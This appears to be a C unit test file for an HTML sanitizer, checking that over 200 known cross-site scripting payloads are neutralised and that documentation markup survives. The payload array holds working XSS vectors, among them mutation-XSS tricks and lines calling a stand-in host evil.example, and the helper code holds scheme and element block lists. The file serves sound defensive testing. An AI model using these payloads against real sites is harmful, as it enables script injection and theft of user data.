/* The HTML cleaner: attacks that are known, and what documentation needs to keep. */
#include "ext/html.h"

#include <stdlib.h>

#include "tests/unit/tap.h"

static struct arena mem;

static const char *clean_with(const struct html_policy *policy, const char *html)
{
	struct ctx cx = { .mem = &mem };
	struct html_clean out;

	return html_clean(&cx, str_of(html), policy, &out) < 0 ? arena_strdup(&mem, cx.err.text) : out.html.p;
}

static const char *clean(const char *html)
{
	static const struct html_policy none;

	return clean_with(&none, html);
}

static const char *strict(const char *html)
{
	static const struct html_policy policy = { .strict = true };

	return clean_with(&policy, html);
}

/* Does a value that a browser would follow name a scheme that runs something? */
static bool runs(const char *value, size_t n)
{
	static const char *const bad[] = { "javascript:", "vbscript:",      "data:text",
					   "livescript:", "data:image/svg", "data:application" };
	char text[64];
	size_t m = 0;

	for (size_t i = 0; i < n && m < sizeof(text) - 1; i++)
		if ((unsigned char)value[i] > ' ')
			text[m++] = ascii_lower(value[i]);
	text[m] = '\0';
	for (size_t i = 0; i < LEN(bad); i++)
		if (str_starts(text, bad[i]))
			return true;
	return false;
}

/* The name of the first thing in an attribute list that must not be there, or NULL. Moves *p behind the tag. */
static const char *bad_attribute(const char **p)
{
	while (**p == ' ') {
		const char *name = ++*p;
		size_t n = strcspn(name, "= >\"");

		if (name[n] != '=' || name[n + 1] != '"')
			return "an attribute without quotes";
		const char *value = name + n + 2;
		size_t m = strcspn(value, "\"");

		if (strncasecmp(name, "on", 2) == 0 || strncasecmp(name, "hx-", 3) == 0 ||
		    strncasecmp(name, "data-hx", 7) == 0 || strncasecmp(name, "srcdoc", 6) == 0 ||
		    strncasecmp(name, "formaction", 10) == 0)
			return name;
		if (runs(value, m) || !value[m])
			return value;
		*p = value + m + 1;
	}
	return **p == '>' ? NULL : "an odd end of a tag";
}

/* Every '<' begins a tag of plain HTML: no script, no style, nothing foreign, nothing whose text is no HTML. */
static const char *unsafe(const char *html)
{
	static const char *const never[] = { "script", "style",    "svg",    "math",      "object",   "embed",
					     "form",   "textarea", "title",  "noscript",  "template", "base",
					     "link",   "meta",     "xmp",    "plaintext", "iframe",   "select",
					     "button", "frame",    "applet", "noembed",   "html",     "body",
					     "head",   "image",    "keygen", "mtext",     "mi",       "foreignobject" };

	for (const char *p = html; (p = strchr(p, '<'));) {
		bool end = p[1] == '/';
		const char *name = p + 1 + end;
		size_t n = 0;

		while (ascii_alnum(name[n]) || name[n] == '-')
			n++;
		if (!n)
			return "a '<' that begins nothing";
		for (size_t i = 0; i < LEN(never); i++)
			if (n == strlen(never[i]) && strncasecmp(name, never[i], n) == 0)
				return never[i];
		p = name + n;
		const char *bad = end ? (*p == '>' ? NULL : "an end tag with attributes") : bad_attribute(&p);

		if (bad)
			return bad;
	}
	return NULL;
}

static const char *const attacks[] = {
	"<script>alert(1)</script>",
	"<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
	"<script\n>alert(1)</script >",
	"<script/src=data:,alert(1)>",
	"<<script>script>alert(1)<</script>/script>",
	"<scr<script>ipt>alert(1)</scr</script>ipt>",
	"<script><!--<script>alert(1)</script>--></script>",
	"<script type=text/template><b>x</b></script>",
	"<svg><script>alert(1)</script></svg>",
	"<svg onload=alert(1)>",
	"<svg/onload=alert(1)>",
	"<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
	"<svg><set attributeName=href to=javascript:alert(1) /></svg>",
	"<svg><a xlink:href=\"javascript:alert(1)\"><text x=20 y=20>x</text></a></svg>",
	"<svg><foreignObject><body onload=alert(1)></foreignObject></svg>",
	"<svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject></svg>",
	"<svg><style><img src=x onerror=alert(1)></style></svg>",
	"<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
	"<svg><p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
	"<svg><title><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
	"<svg><desc><noscript><img src=x onerror=alert(1)></noscript></desc></svg>",
	"<svg><use href=\"data:image/svg+xml,<svg id='x'><a xlink:href='javascript:alert(1)'/></svg>#x\">",
	"<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
	"<math><mtext><table><mglyph><style><math><img src=x onerror=alert(1)>",
	"<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
	"<math><mtext><mglyph><svg><mtext><style><path id=\"</style><img onerror=alert(1) src>\">",
	"<math><annotation-xml encoding=\"text/html\"><style><img src=x onerror=alert(1)></style></annotation-xml></math>",
	"<math href=\"javascript:alert(1)\">x</math>",
	"<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x</maction></math>",
	"<math><mi//xlink:href=\"data:x,<script>alert(4)</script>\">",
	"<img src=x onerror=alert(1)>",
	"<img src=x oNeRrOr=alert(1)>",
	"<img/src=x/onerror=alert(1)>",
	"<img src='x'onerror='alert(1)'>",
	"<img src=x onerror\n=\nalert(1)>",
	"<img src=x onerror\x0c=alert(1)>",
	"<img \x00src=x onerror=alert(1)>",
	"<img src=javascript:alert(1)>",
	"<img src=\"data:image/svg+xml;base64,PHN2Zz4=\">",
	"<img src=\"data:text/html,<script>alert(1)</script>\">",
	"<img srcset=\"javascript:alert(1) 1x\">",
	"<img srcset=\"a.png 1x, javascript:alert(1) 2x\">",
	"<img src=\"x` `<script>alert(1)</script>\"` `>",
	"<img src onerror /\" '\"= alt=alert(1)//\">",
	"<img lowsrc=javascript:alert(1) dynsrc=javascript:alert(1)>",
	"<img longdesc=\"javascript:alert(1)\" usemap=#x>",
	"<image src=x onerror=alert(1)>",
	"<picture><source srcset=x onerror=alert(1)><img onerror=alert(1)></picture>",
	"<a href=javascript:alert(1)>x</a>",
	"<a href=JaVaScRiPt:alert(1)>x</a>",
	"<a href=\" javascript:alert(1)\">x</a>",
	"<a href=\"\x01javascript:alert(1)\">x</a>",
	"<a href=\"java\nscript:alert(1)\">x</a>",
	"<a href=\"java\tscript:alert(1)\">x</a>",
	"<a href=\"java&#10;script:alert(1)\">x</a>",
	"<a href=\"java&Tab;script:alert(1)\">x</a>",
	"<a href=\"javascript&colon;alert(1)\">x</a>",
	"<a href=\"&#106;avascript:alert(1)\">x</a>",
	"<a href=\"&#x6A;&#x61;vascript:alert(1)\">x</a>",
	"<a href=\"&#0000106avascript:alert(1)\">x</a>",
	"<a href=\"javascript&#58;alert(1)\">x</a>",
	"<a href='vbscript:msgbox(1)'>x</a>",
	"<a href='livescript:x'>x</a>",
	"<a href='data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='>x</a>",
	"<a href='data:application/xhtml+xml,x'>x</a>",
	"<a href='data:image/svg+xml,x'>x</a>",
	"<a href='file:///etc/passwd'>x</a>",
	"<a href='blob:https://x/1'>x</a>",
	"<a href='filesystem:http://x/1'>x</a>",
	"<a href='view-source:http://x/'>x</a>",
	"<a href='feed:javascript:alert(1)'>x</a>",
	"<a href='jar:x'>x</a>",
	"<a href='ms-appx:x'>x</a>",
	"<a href='intent:x'>x</a>",
	"<a xlink:href=javascript:alert(1)>x</a>",
	"<a href=x onclick=alert(1)>x</a>",
	"<a href=x onmouseover=alert(1)>x</a>",
	"<a href=x ping=https://evil.example/>x</a>",
	"<a href=# onfocus=alert(1) autofocus tabindex=1>x</a>",
	"<a href=\"x\" style=\"behavior:url(x.htc)\">x</a>",
	"<a href=\"//[::1/x\">x</a>",
	"<iframe src=javascript:alert(1)></iframe>",
	"<iframe srcdoc='<script>alert(1)</script>'></iframe>",
	"<iframe src=https://evil.example/></iframe>",
	"<iframe src=//www.example.com.evil.example/></iframe>",
	"<iframe src=https://www.example.com@evil.example/></iframe>",
	"<iframe src=data:text/html,x></iframe>",
	"<iframe></iframe><script>alert(1)</script>",
	"<iframe/onload=alert(1)>",
	"<frameset><frame src=javascript:alert(1)></frameset>",
	"<object data=javascript:alert(1)></object>",
	"<object data='data:text/html,<script>alert(1)</script>'>",
	"<object><param name=code value=x></object>",
	"<object type=text/x-scriptlet data=x>",
	"<embed src=javascript:alert(1)>",
	"<embed code=x allowscriptaccess=always>",
	"<applet code=x></applet>",
	"<base href=https://evil.example/>",
	"<base target=_top href=javascript:alert(1)//>",
	"<link rel=stylesheet href=https://evil.example/x.css>",
	"<link rel=import href=x>",
	"<link rel=preload as=script href=x onload=alert(1)>",
	"<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
	"<meta http-equiv=refresh content='0;url=https://evil.example'>",
	"<meta http-equiv=set-cookie content=x>",
	"<meta charset=utf-7>",
	"<style>@import 'https://evil.example/x.css';</style>",
	"<style>*{background:url(javascript:alert(1))}</style>",
	"<style><script>alert(1)</script></style>",
	"<style><!--</style><script>alert(1)</script>-->",
	"<style></style\n><img src=x onerror=alert(1)>",
	"<STYLE>x</STYLE onload=alert(1)>",
	"<div style=\"background:url(javascript:alert(1))\">x</div>",
	"<div style=\"width:expression(alert(1))\">x</div>",
	"<div style=\"-moz-binding:url(x)\">x</div>",
	"<div style=\"position:fixed;top:0;left:0;width:100%;height:100%;z-index:9999\">x</div>",
	"<div style=\"background-image:url(https://evil.example/?x)\">x</div>",
	"<div style=\"color:red;/*\">x</div>",
	"<div style='color:\\72 ed;behavior:u\\72l(x)'>x</div>",
	"<div style=\"width:calc(1px);content:'x'\">x</div>",
	"<div style=\"color: var(--x)\">x</div>",
	"<body onload=alert(1)>",
	"<body background=javascript:alert(1)>",
	"<html onmouseover=alert(1)>",
	"<html manifest=x>",
	"<head><script>alert(1)</script></head>",
	"<table background=javascript:alert(1)><tr><td background=javascript:alert(1)>x</table>",
	"<table><script>alert(1)</script><tr><td>x</table>",
	"<table><tr><td><svg><desc><table><tr><td><style><img src=x onerror=alert(1)>",
	"<table><caption><svg><style></caption><img src=x onerror=alert(1)>",
	"<table><colgroup><svg onload=alert(1)></table>",
	"<table><input type=hidden onclick=alert(1)></table>",
	"<form action=https://evil.example/><input name=password type=password></form>",
	"<form action=javascript:alert(1)><input type=submit></form>",
	"<form id=x></form><button form=x formaction=javascript:alert(1)>x</button>",
	"<form><input name=attributes><input name=nodeName></form>",
	"<form name=body></form><form name=cookie>",
	"<form><form onsubmit=alert(1)><input></form>",
	"<input type=image src=x onerror=alert(1)>",
	"<input type=text onfocus=alert(1) autofocus>",
	"<input type=radio name=role value=admin checked>",
	"<input type=checkbox onclick=alert(1) formaction=javascript:alert(1)>",
	"<input type=radio name=__tabbed_1 onclick=alert(1)>",
	"<input type=file>",
	"<input>",
	"<button onclick=alert(1)>x</button>",
	"<button popovertarget=x>x</button><div popover id=x onbeforetoggle=alert(1)>",
	"<select onchange=alert(1)><option>x</select>",
	"<select><iframe></select><img title=\"</iframe><img src onerror=alert(1)>\">",
	"<select><style></select><img title=\"</style><img src onerror=alert(1)>\">",
	"<textarea autofocus onfocus=alert(1)>x</textarea>",
	"<textarea></textarea><img title=\"</textarea><img src onerror=alert(1)>\">",
	"<textarea><img title=\"</textarea><img src=x onerror=alert(1)>\">",
	"<keygen autofocus onfocus=alert(1)>",
	"<isindex type=image src=x onerror=alert(1)>",
	"<title><img title=\"</title><img src=x onerror=alert(1)>\">",
	"<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
	"<noembed><img title=\"</noembed><img src=x onerror=alert(1)>\">",
	"<noframes><p title=\"</noframes><img src=x onerror=alert(1)>\">",
	"<xmp><p title=\"</xmp><img src=x onerror=alert(1)>\">",
	"<plaintext><img src=x onerror=alert(1)>",
	"<listing>&lt;img onerror=alert(1) src=x&gt;</listing>",
	"<template><script>alert(1)</script></template>",
	"<template shadowrootmode=open><img src=x onerror=alert(1)></template>",
	"<slot name=x onslotchange=alert(1)></slot>",
	"<dialog open onclose=alert(1)>x</dialog>",
	"<details open ontoggle=alert(1)><summary>x</summary></details>",
	"<details><summary onclick=alert(1)>x</summary></details>",
	"<marquee onstart=alert(1)>x</marquee>",
	"<marquee loop=1 onfinish=alert(1)>x</marquee>",
	"<bgsound src=javascript:alert(1)>",
	"<layer src=javascript:alert(1)></layer>",
	"<ilayer src=x></ilayer>",
	"<xml id=x><a><b>&lt;script&gt;alert(1)&lt;/script&gt;</b></a></xml>",
	"<xss onafterscriptexecute=alert(1)>",
	"<custom-element onclick=alert(1)>x</custom-element>",
	"<x contenteditable onblur=alert(1)>lose focus</x>",
	"<p contenteditable oninput=alert(1)>x</p>",
	"<p onpointerenter=alert(1) onanimationstart=alert(1)>x</p>",
	"<p hx-get=/api/x hx-trigger=load>x</p>",
	"<p data-hx-post=/api/x data-hx-trigger=load>x</p>",
	"<p DATA-HX-POST=/api/x>x</p>",
	"<video><source onerror=alert(1)></video>",
	"<video src=x onerror=alert(1)></video>",
	"<video poster=javascript:alert(1)></video>",
	"<video onloadstart=alert(1) src=x>",
	"<audio src=x onerror=alert(1)>",
	"<audio src=javascript:alert(1) autoplay>",
	"<track src=javascript:alert(1)>",
	"<blockquote cite=javascript:alert(1)>x</blockquote>",
	"<q cite='vbscript:x'>x</q>",
	"<del cite=javascript:alert(1)>x</del>",
	"<ins cite=javascript:alert(1)>x</ins>",
	"<area href=javascript:alert(1)>",
	"<map name=x><area shape=rect href=javascript:alert(1)></map>",
	"<label for=password>x</label>",
	"<output onclick=alert(1)>x</output>",
	"<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
	"<!-- --><img src=x onerror=alert(1)>-->",
	"<!--><img src=x onerror=alert(1)>-->",
	"<!--->\n<img src=x onerror=alert(1)>",
	"<!--!><img src=x onerror=alert(1)>",
	"<!-- x --!><img src=x onerror=alert(1)>",
	"<![CDATA[<img src=x onerror=alert(1)>]]>",
	"<svg><![CDATA[><img src=x onerror=alert(1)>]]></svg>",
	"<?xml version=1.0?><img src=x onerror=alert(1)>",
	"<?php echo 1 ?><script>alert(1)</script>",
	"<!DOCTYPE x [<!ENTITY y 'z'>]><img src=x onerror=alert(1)>",
	"</p><img src=x onerror=alert(1)>",
	"</br onclick=alert(1)>",
	"</ onmouseover=alert(1)>",
	"<%<!--'%><script>alert(1)</script -->",
	"<a\"><img src=x onerror=alert(1)>",
	"<b <script>alert(1)</script>0",
	"<div id=\"<img src=x onerror=alert(1)>\">x</div>",
	"<div title='\"><img src=x onerror=alert(1)>'>x</div>",
	"<div title=\"&quot;&gt;&lt;img src=x onerror=alert(1)&gt;\">x</div>",
	"<div class=`><img src=x onerror=alert(1)>`>x</div>",
	"&lt;script&gt;alert(1)&lt;/script&gt;",
	"&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;",
	"<p>a<p>b<a href=1><a href=javascript:alert(1)>c",
	"<a><table><a href=javascript:alert(1)>x</a></table></a>",
	"<b><p><i></b><img src=x onerror=alert(1)></p></i>",
	"<ul><li><li onclick=alert(1)></ul></li>",
	"<rp><rt><ruby onclick=alert(1)>",
	"<nobr><nobr onclick=alert(1)>x",
	"<font face=\"x\" onclick=alert(1) color=red>x</font>",
	"<wbr onclick=alert(1)>",
	"<hr onclick=alert(1)>",
	"<col onclick=alert(1)><colgroup span=2 onclick=alert(1)>",
	"<pre>\n\n<img src=x onerror=alert(1)></pre>",
	"<code><script>alert(1)</script></code>",
	"<a href=\"https://x\" target=\"_top\">x</a>",
	"<img src=\"x\" name=\"cookie\"><a name=\"x y\">z</a>",
	"<\x00script>alert(1)</script>",
	"<scr\x00ipt>alert(1)</script>",
	"<script\xc2\xa0>alert(1)</script>",
	"\xef\xbb\xbf<script>alert(1)</script>",
	"+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
	"<img src=x\xff onerror=alert(1)>",
};

static void test_attacks(void)
{
	static struct html_policy open_policy;
	struct ctx cx = { .mem = &mem };

	*list_add(&mem, &open_policy.iframe_hosts) = "www.example.com";
	open_policy.element = regex_compile(&mem, STR("^custom-"), 0, NULL);
	open_policy.attribute = regex_compile(&mem, STR("."), 0, NULL);
	for (size_t i = 0; i < LEN(attacks); i++) {
		struct html_clean once, twice;
		const struct html_policy *policies[] = { &(struct html_policy){ 0 }, &(struct html_policy){ .strict = true },
							 &open_policy };

		for (size_t k = 0; k < LEN(policies); k++) {
			int rc = html_clean(&cx, str_of(attacks[i]), policies[k], &once);
			const char *bad = rc < 0 ? cx.err.text : unsafe(once.html.p);

			if (rc == 0)
				OK(html_clean(&cx, once.html, policies[k], &twice) == 0);
			STR_EQ(bad ? bad : "harmless", "harmless");
			STR_EQ(twice.html.p, once.html.p);
			if (bad)
				printf("# %s\n# became %s\n", attacks[i], once.html.p);
		}
	}
	OK(LEN(attacks) > 200);
}

#define SAME(html) STR_EQ(clean(html), html)

static void test_kept(void)
{
	SAME("<h1 id=\"a\">A<a class=\"headerlink\" href=\"#a\" title=\"Permanent link\">\xc2\xb6</a></h1>");
	SAME("<div class=\"admonition note\"><p class=\"admonition-title\">Note</p><p>x</p></div>");
	SAME("<details class=\"tip\" open=\"open\"><summary>x</summary><p>y</p></details>");
	SAME("<div class=\"highlight\"><pre id=\"__code_0\"><span></span><code><span class=\"k\">if</span> a &lt; b &amp;&amp; "
	     "c</code></pre></div>");
	SAME("<ul class=\"task-list\"><li class=\"task-list-item\"><label class=\"task-list-control\"><input type=\"checkbox\" "
	     "checked=\"\" "
	     "disabled=\"\"><span class=\"task-list-indicator\"></span></label> done</li></ul>");
	SAME("<div class=\"tabbed-set\" data-tabs=\"1:2\"><input checked=\"checked\" id=\"__tabbed_1_1\" name=\"__tabbed_1\" "
	     "type=\"radio\"><label for=\"__tabbed_1_1\">C</label><div class=\"tabbed-content\"><p>x</p></div></div>");
	SAME("<table><thead><tr><th style=\"text-align: left;\">a</th></tr></thead><tbody><tr><td>1</td></tr></tbody></table>");
	SAME("<p><img alt=\"x\" src=\"../img/a.png\" width=\"300\" loading=\"lazy\"></p>");
	SAME("<sup id=\"fnref:1\"><a class=\"footnote-ref\" href=\"#fn:1\">1</a></sup>");
	SAME("<dl><dt>a</dt><dd>b</dd></dl>");
	SAME("<p><del class=\"critic\">a</del><ins>b</ins><mark>c</mark><kbd>d</kbd><abbr title=\"e\">f</abbr></p>");
	SAME("<p><a href=\"mailto:a@b.c\">a</a><a href=\"tel:1\">b</a><a href=\"matrix:r/x\">c</a></p>");
	SAME("<p data-k=\"v\" lang=\"cs\" dir=\"ltr\" aria-label=\"x\">x</p>");
	SAME("<picture><source srcset=\"a.png 1x, b.png 2x\" media=\"(min-width: 1px)\"><img src=\"a.png\"></picture>");
	SAME("<pre><code>a\n\nb</code></pre>");
}

static void test_changed(void)
{
	STR_EQ(clean("<form><p>a</p><unknown>b</unknown></form>"), "<p>a</p>b");
	STR_EQ(clean("a<script>x</script>b<svg><text>y</text></svg>"), "ab");
	STR_EQ(clean("<a name=\"old\">x</a>"), "<a id=\"old\">x</a>");
	STR_EQ(clean("<a id=\"i\" name=\"old\">x</a>"), "<a id=\"i\">x</a>");
	STR_EQ(clean("<img src=\"data:image/png;base64,AAAA\">"), "<img src=\"data:image/png;base64,AAAA\">");
	/* A box that can be ticked is for its reader only: it has no name and no form. */
	STR_EQ(clean("<input type=checkbox disabled>"), "<input type=\"checkbox\" disabled=\"\">");
	STR_EQ(clean("<form action=x><input type=checkbox name=a form=b></form>"), "<input type=\"checkbox\">");
	STR_EQ(clean("<pre>\n\nx</pre>"), "<pre>\n\nx</pre>");
	STR_EQ(clean("<p style=\"color: red; position: fixed; background: url(x)\">x</p>"), "<p style=\"color: red;\">x</p>");
	STR_EQ(clean(""), "");
}

static void test_strict(void)
{
	struct ctx cx = { .mem = &mem };
	const struct html_policy none = { 0 };
	struct html_clean out;

	STR_EQ(strict("<table><tbody><tr><td style=\"text-align: right\">x</td></tr></tbody></table>"),
	       "<table><tbody><tr><td align=\"right\">x</td></tr></tbody></table>");
	STR_EQ(strict("<img style=\"width: 50%; height: 20px; border: 0\" src=\"a\">"),
	       "<img width=\"50%\" height=\"20\" src=\"a\">");
	STR_EQ(strict("<p data-copy=\"x\" data-k=\"v\" data-tabs=\"1:1\">x</p>"), "<p data-tabs=\"1:1\">x</p>");
	OK(html_clean(&cx, STR("<p data-k=\"v\">x</p>"), &none, &out) == 0 && out.differs && !out.has_h1);
	OK(html_clean(&cx, STR("<h1 class=\"x\">x</h1>"), &none, &out) == 0 && !out.differs && out.has_h1);
}

static void test_options(void)
{
	struct html_policy p = { 0 };

	*list_add(&mem, &p.iframe_hosts) = "www.example.com";
	*list_add(&mem, &p.schemes) = "vscode";
	p.element = regex_compile(&mem, STR("^backstage-"), 0, NULL);
	p.attribute = regex_compile(&mem, STR("^attr|^on"), 0, NULL);
	STR_EQ(clean_with(&p, "<iframe src=\"https://www.example.com/v\" width=\"1\" onload=\"x\">x</iframe>"),
	       "<iframe src=\"https://www.example.com/v\" width=\"1\" sandbox=\"allow-scripts allow-same-origin allow-popups "
	       "allow-forms\" referrerpolicy=\"no-referrer\"></iframe>");
	STR_EQ(clean_with(&p, "<a href=\"vscode://x\">x</a><a href=\"vscod://x\">y</a>"),
	       "<a href=\"vscode://x\">x</a><a>y</a>");
	STR_EQ(clean_with(&p, "<backstage-x attr-a=\"1\" onclick=\"2\" other=\"3\">x</backstage-x><other-x>y</other-x>"),
	       "<backstage-x attr-a=\"1\">x</backstage-x>y");
}

/* n times text, between two others. */
static struct str repeated(const char *before, const char *text, size_t n, const char *after)
{
	struct buf b = { .mem = &mem };

	buf_adds(&b, before);
	while (n--)
		buf_adds(&b, text);
	buf_adds(&b, after);
	return buf_str(&b);
}

static void test_limits(void)
{
	struct ctx cx = { .mem = &mem };
	const struct html_policy none = { 0 }, small = { .max_output = 100 };
	struct html_clean out;
	static const char *const deep[] = { "<div>",   "<b>",        "<svg>",  "<table><tr><td>",
					    "<b></x>", "<p><b></p>", "<a><p>", "<math>" };

	for (size_t i = 0; i < LEN(deep); i++)
		OK(html_clean(&cx, repeated("", deep[i], 100000, ""), &none, &out) == ERR_TOOLARGE);
	OK(html_clean(&cx, repeated("", "<p>x", 10000, ""), &none, &out) == 0);
	OK(html_clean(&cx, repeated("<ul>", "<li>x", 10000, "</ul>"), &none, &out) == 0);
	OK(html_clean(&cx, repeated("", "<b>x</b>", 10000, ""), &none, &out) == 0);
	OK(html_clean(&cx, repeated("", "x", 101, ""), &small, &out) == ERR_TOOLARGE);
	OK(html_clean(&cx, repeated("", "<div>", 500, "x"), &none, &out) == 0);
}

int main(void)
{
	test_attacks();
	test_kept();
	test_changed();
	test_strict();
	test_options();
	test_limits();
	arena_release(&mem);
	return DONE();
}
